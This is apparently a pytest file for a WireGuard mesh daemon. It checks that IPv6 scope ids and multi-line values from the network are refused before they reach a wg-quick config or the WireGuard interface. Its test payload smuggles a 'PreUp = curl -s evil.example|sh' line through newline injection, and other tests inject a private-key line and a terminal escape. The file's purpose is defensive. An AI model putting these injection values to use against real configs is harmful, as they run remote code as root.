"""An IPv6 scope id from the wire is refused wherever an address is taken.

``ipaddress`` takes anything after ``%`` as a scope id, newlines included, and
``str()`` gives it back as it came: a bad member put lines of its own
(``PreUp = <shell>``, run as root by wg-quick) into the device config another
member printed, through its record's endpoint and a sponsor's reply.
"""

from __future__ import annotations

import asyncio
from types import SimpleNamespace
from typing import Any

import pytest

from smegmesh.core.addressing import mesh_prefix
from smegmesh.core.codec import WireError
from smegmesh.core.device_messages import DeviceQuery, DeviceSettings
from smegmesh.core.endpoint import no_scope
from smegmesh.core.messages import YouAre
from smegmesh.core.record import RecordError, RouteAdv, check_endpoint
from smegmesh.core.wgconfig import PeerConfig
from smegmesh.core.wgdiff import AddPeer
from smegmesh.core.wire import decode, encode
from smegmesh.daemon.devices_remote import DeviceRemoteOps
from smegmesh.daemon.devices_wgquick import render_wg_quick
from smegmesh.testbed.founded import Mesh, ident
from smegmesh.wg.base import WgError
from smegmesh.wg.uapi import format_set

SHELL = "\n[Interface]\nPreUp = curl -s evil.example|sh #"


def test_no_scope_passes_plain_text_and_refuses_a_scope() -> None:
    assert no_scope("fe80::1") == "fe80::1"
    with pytest.raises(ValueError, match="scope"):
        no_scope("fe80::1%eth0")


def test_a_record_endpoint_with_a_scope_id_is_refused() -> None:
    assert check_endpoint("[2001:db8::2]:51820") == "[2001:db8::2]:51820"
    for bad in ("[fe80::1%eth0]:51820", f"[fe80::1%x{SHELL}]:51820"):
        with pytest.raises(ValueError, match="IPv6"):
            check_endpoint(bad)
    m = Mesh()
    m.admit(ident(2))
    with pytest.raises(RecordError, match="wg_endpoint"):
        m.record(ident(2), wg_endpoint=f"[fe80::1%x{SHELL}]:51820")


def test_a_route_prefix_with_a_scope_id_is_refused() -> None:
    m = Mesh()
    m.admit(ident(2))
    with pytest.raises(RecordError, match="routes"):
        m.record(ident(2), routes=(RouteAdv(f"fe80::%x{SHELL}/64", (m.mesh_id,)),))


def test_answers_from_the_wire_with_a_scope_id_are_refused() -> None:
    mesh = Mesh().mesh_id
    for msg in (
        YouAre(mesh, f"fe80::1%x{SHELL}"),
        DeviceSettings(mesh, "", f"fe80::1%{SHELL}", ()),
        DeviceSettings(mesh, "", None, (f"fe80::%{SHELL}/64",)),
        DeviceSettings(mesh, f"no{SHELL}", None, ()),  # an error text of more than one line
        DeviceSettings(mesh, "\x1b]0;owned\x07", None, ()),  # a terminal escape
    ):
        with pytest.raises(WireError):
            decode(encode(msg))


def test_a_value_of_more_than_one_line_never_reaches_a_file_or_wireguard() -> None:
    """The last line of defence, behind the checks on the wire."""
    base: dict[str, Any] = {
        "private_key": None,
        "address": "fd00::1",
        "prefix": "fd00::/64",
        "dns": None,
        "sponsor_key": "k",
        "endpoint": "[2001:db8::2]:51820",
        "allowed_ips": [],
        "comment": "c",
    }
    assert "Endpoint = [2001:db8::2]:51820" in render_wg_quick(**base)
    for key, value in (("endpoint", f"[fe80::1%x{SHELL}]:1"), ("allowed_ips", [SHELL])):
        with pytest.raises(ValueError, match="printable"):
            render_wg_quick(**{**base, key: value})
    peer = PeerConfig(bytes(32), f"[fe80::1%x\nprivate_key={'00' * 32}]:1", frozenset(), 0)
    with pytest.raises(WgError, match="printable"):
        format_set([AddPeer(peer)], resolve=lambda e: e)


def test_a_remote_sponsor_cannot_give_a_device_default_routes() -> None:
    """docs/DEVICES.md: default routes are the device owner's to add."""
    m = Mesh()
    sponsor = m.record(
        m.founder, control_endpoint="[2001:db8::2]:4000", tls_fp=bytes(32), alias="gw"
    )
    bridged = str(mesh_prefix("far-mesh-abcd"))  # a mesh /64 the sponsor routes
    routes = ("::/0", "0.0.0.0/0", bridged)
    reply = encode(DeviceSettings(m.mesh_id, "", None, routes))

    class Rpc:
        async def call(self, *_a: object, **_k: object) -> bytes:
            return reply

    ops: Any = DeviceRemoteOps.__new__(DeviceRemoteOps)
    ops.rpc = Rpc()
    rt: Any = SimpleNamespace(mesh_id=m.mesh_id)
    got = asyncio.run(ops._device_call(rt, sponsor, DeviceQuery(m.mesh_id, bytes(32))))
    assert got.allowed_ips == (bridged,)
    assert str(mesh_prefix(m.mesh_id)) not in got.allowed_ips
